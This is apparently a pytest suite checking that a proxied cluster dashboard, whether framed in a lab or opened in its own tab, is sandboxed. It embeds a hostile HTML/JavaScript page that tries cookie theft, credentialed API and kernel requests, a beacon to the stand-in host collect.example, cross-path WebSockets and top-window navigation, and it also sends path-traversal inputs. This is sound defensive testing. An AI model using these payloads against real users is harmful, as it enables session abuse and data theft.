"""A cluster's dashboard in a real browser: it is live, and a hostile one can do nothing in its user's name."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from support.chromium import chromium
from support.lab_server import LabServer, lab_server
from support.live import serving
from voxelhub_lab.tickets import IDLE, LIFE, MOST, Tickets
from websockets.exceptions import ConnectionClosed, InvalidStatus
from websockets.sync.client import connect

PREFIX = "/services/voxelhub/api/v1"
CLUSTER, OTHER, ABSENT = "1" * 32, "2" * 32, "3" * 32
HOSTILE = """<!doctype html><script src="lib/own.js"></script><body>start</body><script>
const out = {own: window.own}, tried = [];
const here = new URL('.', location.href), home = location.origin + '/user/maria/';
const attempt = (name, run) => { try { out[name] = String(run()) } catch (error) { out[name] = 'refused' } };
const promise = (name, what) => tried.push(what.then(() => out[name] = 'done', () => out[name] = 'refused'));
const socket = (name, address) => tried.push(new Promise(done => {
  try { const ws = new WebSocket(address, ['bokeh', 'session.token'])
    ws.onopen = () => ws.send('ping'); ws.onmessage = m => { out[name] = m.data + ws.protocol; done() }
    ws.onerror = () => { out[name] = 'refused'; done() } } catch (error) { out[name] = 'refused'; done() } }));
attempt('cookie', () => document.cookie); attempt('storage', () => localStorage.length);
attempt('parent', () => window.parent === window ? none : window.parent.document.title);
promise('api', fetch(home + 'voxelhub/api/v1/me', {credentials: 'include'}));
promise('blind', fetch(home + 'voxelhub/api/v1/me', {mode: 'no-cors', credentials: 'include', method: 'POST'}));
promise('kernels', fetch(home + 'api/kernels', {credentials: 'include'}));
promise('outside', fetch('https://collect.example/?x=1', {mode: 'no-cors'}));
socket('live', 'ws://' + location.host + here.pathname + 'status/ws');
socket('elsewhere', 'ws://' + location.host + '/user/maria/api/events/subscribe');
const form = document.createElement('form'); form.method = 'post'; form.action = home + 'voxelhub/api/v1/me';
document.body.append(form); attempt('form', () => form.submit());
attempt('popup', () => window.open(home + 'lab') ? 'opened' : 'refused');
attempt('top', () => { if (window.top === window) return none; window.top.location = home + 'lab'; return 'moved' });
Promise.all(tried).then(() => document.body.innerText = JSON.stringify(out));
</script>"""


class Service:
    """What the API answers about two clusters of the server's user; and what reached it."""

    def __init__(self) -> None:
        self.seen: list[tuple[str, str, dict[str, str]]] = []

    async def __call__(self, scope: dict[str, Any], receive: Any, send: Any) -> None:
        if scope["type"] == "lifespan":
            return None
        path = scope["path"].removeprefix(PREFIX)
        headers = {name.decode(): value.decode() for name, value in scope["headers"]}
        self.seen.append((scope["type"], path, headers))
        if scope["type"] == "websocket":
            return await self._echo(scope, receive, send, path)
        page = path.removeprefix(f"/clusters/{CLUSTER}/dashboard/")
        kind, body, status = "text/html", HOSTILE, 200
        if page == "lib/own.js":
            kind, body = "text/javascript", "window.own = 'loaded'"
        elif page == "moved":
            status = 302
        elif ABSENT in path:
            kind, status = "application/problem+json", 404
            body = json.dumps({"detail": "There is <nothing> here.", "fix": "", "code": "not_found", "status": 404})
        sent = [(b"content-type", kind.encode()), (b"location", b"status"), (b"set-cookie", b"stolen=1"),
                (b"content-security-policy", b"default-src *")]
        await send({"type": "http.response.start", "status": status, "headers": sent})
        await send({"type": "http.response.body", "body": body.encode()})
        return None

    async def _echo(self, scope: dict[str, Any], receive: Any, send: Any, path: str) -> None:
        await receive()
        if CLUSTER not in path:
            return await send({"type": "websocket.close", "code": 1008})
        await send({"type": "websocket.accept", "subprotocol": scope["subprotocols"][0] if scope["subprotocols"] else None})
        while (message := await receive())["type"] == "websocket.receive":
            if message.get("text") == "end":
                return await send({"type": "websocket.close", "code": 1001})
            await send({"type": "websocket.send", "text": message.get("text"), "bytes": message.get("bytes")})
        return None


@pytest.fixture(scope="module")
def service() -> Iterator[tuple[Service, int]]:
    app = Service()
    with serving(app) as port:
        yield app, port


@pytest.fixture(scope="module")
def lab(service, tmp_path_factory) -> Iterator[LabServer]:
    with lab_server(tmp_path_factory.mktemp("home"), f"http://127.0.0.1:{service[1]}{PREFIX}", "hub-token") as server:
        yield server


@pytest.fixture
def seen(service) -> list[tuple[str, str, dict[str, str]]]:
    service[0].seen.clear()
    return service[0].seen


def door(lab: LabServer, cluster: str = CLUSTER, path: str = "status", **headers: str) -> httpx.Response:
    address = f"{lab.url}/voxelhub/api/v1/clusters/{cluster}/dashboard/{path}"
    return httpx.get(address, headers={**lab.headers, **headers}, trust_env=False)


def behind(lab: LabServer, cluster: str = CLUSTER, path: str = "status") -> str:
    answer = door(lab, cluster, path)
    assert answer.status_code == 302, answer.text
    return f"http://127.0.0.1:{lab.port}{answer.headers['location']}"


@pytest.mark.parametrize("framed", [True, False], ids=["in a frame of Lab", "in a tab of its own"])
def test_a_hostile_dashboard_is_live_and_can_do_nothing_else(lab, seen, framed):
    with chromium() as (context, _):
        page = context.new_page()
        context.route("https://collect.example/**", lambda route: route.abort())
        page.goto(f"{lab.url}/api/status?token={lab.token}")
        address = f"{lab.url}/voxelhub/api/v1/clusters/{CLUSTER}/dashboard/status"
        if framed:
            page.route("**/user/maria/framing", lambda route: route.fulfill(
                body=f"<title>Lab</title><iframe src='{address}'></iframe>", content_type="text/html"))
            page.goto(f"{lab.url}/framing")
            shown = page.frame_locator("iframe").locator("body")
        else:
            page.goto(address)
            shown = page.locator("body")
        shown.get_by_text('"live"').wait_for()
        out = json.loads(shown.inner_text())
        assert len(context.pages) == 1
        assert page.url.split("?")[0].endswith("/framing" if framed else "/status")
    assert (out.pop("own"), out.pop("live")) == ("loaded", "pingbokeh")
    assert out.pop("form") == "undefined"  # it asks, and nothing follows
    assert set(out.values()) == {"refused"}, out
    assert {path.split("/dashboard/")[-1] for _, path, _ in seen} == {"status", "lib/own.js", "status/ws"}
    for kind, _, headers in seen:
        assert headers["authorization"] == "token hub-token" and not {"cookie", "origin", "referer"} & set(headers), kind


def test_the_door_asks_for_the_login(lab, seen):
    address = f"{lab.url}/voxelhub/api/v1/clusters/{CLUSTER}/dashboard/status"
    answer = httpx.get(address, trust_env=False)
    assert answer.status_code == 302 and "/login" in answer.headers["location"]
    assert seen == []


def test_the_door_is_for_people_and_not_for_scripts(lab, seen):
    assert door(lab, **{"Sec-Fetch-Mode": "cors"}).status_code == 403
    assert door(lab, path="%2e%2e/secret").status_code in (403, 404)
    assert door(lab, path="status", **{"Sec-Fetch-Mode": "navigate"}).status_code == 302
    assert seen == []


def test_without_a_good_ticket_there_is_nothing(lab, seen):
    good = behind(lab)
    word = good.split("/")[-2]
    for address in (good.replace(word, "x" * 43), good.replace(CLUSTER, OTHER)):
        assert httpx.get(address, trust_env=False).status_code == 403
        assert httpx.get(address, headers={"Sec-Fetch-Dest": "document"}, trust_env=False).headers["location"].endswith(
            "/dashboard/status")
        with pytest.raises(InvalidStatus) as refused, connect(f"ws{address.removeprefix('http')}/ws"):
            pass
        assert refused.value.response.status_code == 403
    assert httpx.get(good.replace("/status", "/a/%2e%2e/%2e%2e/me"), trust_env=False).status_code in (403, 404)
    assert seen == []


def test_a_page_comes_with_our_policy_and_no_cookie(lab):
    answer = httpx.get(behind(lab), trust_env=False)
    policy = answer.headers.get_list("content-security-policy")
    assert len(policy) == 1 and policy[0].startswith("sandbox allow-scripts; default-src 'none'")
    assert "allow-same-origin" not in policy[0] and "frame-ancestors 'self'" in policy[0]
    assert "set-cookie" not in answer.headers and answer.headers["referrer-policy"] == "no-referrer"
    strange = httpx.get(behind(lab), headers={"Host": "a;script-src *"}, trust_env=False)
    assert strange.status_code == 400


def test_a_refusal_is_a_page_to_read(lab):
    answer = httpx.get(behind(lab, ABSENT), trust_env=False)
    assert answer.status_code == 404 and "There is &lt;nothing&gt; here." in answer.text
    with pytest.raises(InvalidStatus) as refused, connect(f"ws{behind(lab, ABSENT).removeprefix('http')}/ws"):
        pass
    assert refused.value.response.status_code == 403


def test_messages_of_both_kinds_pass_and_an_end_is_an_end(lab):
    with connect(f"ws{behind(lab).removeprefix('http')}/ws", max_size=None) as socket:
        for message in ("text", b"\x00" * 900_000):
            socket.send(message)
            assert socket.recv(timeout=120) == message
        socket.send("end")
        with pytest.raises(ConnectionClosed):
            socket.recv(timeout=120)


def test_a_redirect_stays_on_the_dashboard(lab):
    answer = httpx.get(behind(lab, path="moved"), trust_env=False)
    assert (answer.status_code, answer.headers["location"]) == (302, "status")


def test_tickets_end():
    now = [0.0]
    tickets = Tickets(lambda: now[0])
    word = tickets.issue(CLUSTER)
    assert tickets.use(word, CLUSTER) and not tickets.use(word, OTHER) and not tickets.use("x", CLUSTER)
    now[0] = IDLE + 1
    assert not tickets.use(word, CLUSTER)
    word = tickets.issue(CLUSTER)
    for _ in range(int(LIFE / IDLE) * 2):
        now[0] += IDLE / 2
        tickets.use(word, CLUSTER)
    assert not tickets.use(word, CLUSTER)


def test_the_ticket_that_is_used_least_gives_way():
    now = [0.0]
    tickets = Tickets(lambda: now[0])
    first, second = tickets.issue(CLUSTER), tickets.issue(CLUSTER)
    now[0] = 1.0
    assert tickets.use(first, CLUSTER)
    for _ in range(MOST - 1):
        tickets.issue(CLUSTER)
    assert tickets.use(first, CLUSTER) and not tickets.use(second, CLUSTER)
